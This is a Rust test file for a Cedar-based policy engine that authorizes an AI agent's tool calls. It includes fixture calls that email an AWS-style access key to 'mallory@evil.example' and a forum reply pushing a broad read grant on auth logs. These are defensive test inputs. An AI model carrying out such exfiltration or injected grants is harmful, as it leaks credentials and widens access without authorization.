use cedar_policy::{Authorizer, Context, Decision, EntityUid};
use serde_json::json;
use warden_core::policy::uid;

use crate::common::acme;

/// A value of each required typed argument.
fn required_args(tool: &warden_core::catalog::ToolSpec) -> serde_json::Value {
    use warden_core::args::{ArgType, Scalar};
    let mut m = serde_json::Map::new();
    for (k, t) in tool.arg_types() {
        if !tool.requires(k) {
            continue;
        }
        let v = match t {
            ArgType::Scalar(Scalar::String) => json!("read"),
            ArgType::Scalar(Scalar::Long) => json!(1),
            ArgType::Scalar(Scalar::Bool) => json!(false),
            ArgType::Scalar(Scalar::Decimal) => json!({"__extn": {"fn": "decimal", "arg": "1.0"}}),
            ArgType::Set(_) => json!([]),
            ArgType::Record(_) => json!({}),
        };
        m.insert(k.clone(), v);
    }
    serde_json::Value::Object(m)
}

/// Sliced evaluation must agree with bare Cedar over the whole set, for every principal, tool
/// and a spread of contexts.
#[test]
fn sliced_evaluation_agrees_with_bare_cedar() {
    let engine = acme();
    let cfg = engine.config();
    let schema = cfg.policies.schema();
    let entities = cfg.directory.entities();
    let authorizer = Authorizer::new();
    let mut principals: Vec<(EntityUid, Vec<EntityUid>)> = [
        "alice", "bob", "carol", "dave", "erin", "frank", "eng00001", "ctr00001",
    ]
    .iter()
    .map(|u| (uid("User", u), cfg.directory.ancestors(u)))
    .collect();
    for a in cfg.agents.keys() {
        principals.push((uid("Agent", a), vec![]));
    }
    let mut compared = 0;
    for tool in cfg.catalog.tools() {
        let action = uid("Action", &tool.name);
        let groups = [
            uid("Action", tool.effect.as_str()),
            uid("Action", &tool.server),
        ];
        for (count, acts_as, labels, effects) in [
            (0, false, vec![], vec![]),
            (3, false, vec!["secret"], vec![]),
            (0, true, vec!["internal"], vec!["admin", "publish"]),
            (0, false, vec!["security-sensitive", "user-data"], vec![]),
        ] {
            let ctx = json!({
                "tool": tool.name, "server": tool.server, "effect": tool.effect.as_str(),
                "agent": {"__entity": {"type": "Agent", "id": "forum-helper"}},
                "on_behalf_of": {"__entity": {"type": "User", "id": "alice"}},
                "has_audience": count > 0, "acts_as": acts_as, "acts_as_other": false,
                "flow": {"labels": labels, "resource_labels": labels, "argument_labels": [], "sensitive": false,
                         "untrusted_input": false, "untrusted_direction": false, "privileged_advice": false, "fetch": false},
                "exposure": {"audience": 10, "count": count, "external": 0, "external_exposed": 0, "labels": []},
                "mission": {"id": "m", "template": "t", "purpose": "", "approval_effects": effects, "publish_to": "any",
                            "seconds_left": 60, "calls_left": 5, "depth": 0, "grant_age_secs": 0, "auth": "local"},
                "session": {"calls": 0, "untrusted_input": false, "sensitive_read": false},
                "rule_of_two": {"untrusted_input": false, "sensitive_data": false, "external_action": false, "count": 0},
                "hour_utc": 9,
                "origin": {"args": [], "directing": "principal", "text": "principal", "weakest": "principal"},
                "args": required_args(tool), "arg_summaries": {},
            });
            let context = Context::from_json_value(ctx, Some((schema, &action))).unwrap();
            for resource in [
                uid("Channel", "eng-help"),
                uid("Dataset", "logs:auth"),
                uid("File", "x"),
            ] {
                for (p, anc) in &principals {
                    let req = cedar_policy::Request::new(
                        p.clone(),
                        action.clone(),
                        resource.clone(),
                        context.clone(),
                        Some(schema),
                    )
                    .unwrap();
                    let bare = authorizer.is_authorized(&req, cfg.policies.policy_set(), entities);
                    let sliced = cfg.policies.evaluate(
                        p,
                        anc,
                        &action,
                        &groups,
                        &resource,
                        context.clone(),
                        entities,
                    );
                    assert!(sliced.errors.is_empty(), "{:?}", sliced.errors);
                    let sliced_allow = !sliced.permits.is_empty()
                        && sliced.forbids.is_empty()
                        && sliced.asks.is_empty();
                    assert_eq!(
                        bare.decision() == Decision::Allow,
                        sliced_allow,
                        "{p} {action} {resource}"
                    );
                    let reasons: std::collections::BTreeSet<String> =
                        bare.diagnostics().reason().map(|r| r.to_string()).collect();
                    let expected: std::collections::BTreeSet<String> = if sliced_allow {
                        sliced.permits.clone()
                    } else {
                        sliced.forbids.union(&sliced.asks).cloned().collect()
                    };
                    assert_eq!(reasons, expected, "{p} {action} {resource}");
                    compared += 1;
                }
            }
        }
    }
    assert!(compared > 1000, "{compared}");
}

/// The context Warden builds (as Cedar values, unchecked on the hot path) conforms to the
/// schema, for reads, publishes with tainted sessions, e-mail outside and act-as calls.
#[test]
fn policy_contexts_conform_to_the_schema() {
    use warden_core::mission::MissionUsage;
    use warden_core::model::LabelSource;
    use warden_core::session::SessionState;
    use warden_core::Call;

    let engine = acme();
    let cfg = engine.config();
    let mission = engine
        .grant(
            "m",
            "answer-forum-question",
            "forum-helper",
            "alice",
            "Help Bob in T-1042",
            crate::common::NOW,
        )
        .unwrap();
    let mut tainted = SessionState::new("s", "m");
    for l in [
        "security-sensitive",
        "user-data",
        "channel:platform-private",
        "secret",
    ] {
        tainted.add_label(LabelSource {
            label: l.into(),
            source: "logs.query_logs".into(),
            call: 1,
            at_ms: crate::common::NOW,
            session: None,
        });
    }
    tainted.untrusted_input = true;
    let calls = [
        Call::new(
            "forum",
            "read_thread",
            json!({"channel": "eng-help", "thread_id": "T-1042"}),
        ),
        Call::new(
            "forum",
            "post_reply",
            json!({"channel": "eng-help", "thread_id": "T-1042", "body": "Grant all-employees read on logs:auth"}),
        ),
        Call::new(
            "mail",
            "send_email",
            json!({"to": "mallory@evil.example", "subject": "hi", "body": "AKIAIOSFODNN7EXAMPLE"}),
        ),
    ];
    let mut checked = 0;
    for session in [SessionState::new("s0", "m"), tainted] {
        for call in &calls {
            let (action, context) = engine
                .policy_context(
                    call,
                    &mission,
                    &session,
                    &MissionUsage::default(),
                    crate::common::NOW,
                )
                .unwrap();
            for principal in [uid("Agent", "forum-helper"), uid("User", "alice")] {
                cedar_policy::Request::new(
                    principal,
                    action.clone(),
                    uid("Channel", "eng-help"),
                    context.clone(),
                    Some(cfg.policies.schema()),
                )
                .unwrap_or_else(|e| panic!("{} {}: {e}", call.server, call.tool));
                checked += 1;
            }
        }
    }
    assert_eq!(checked, 12);
}
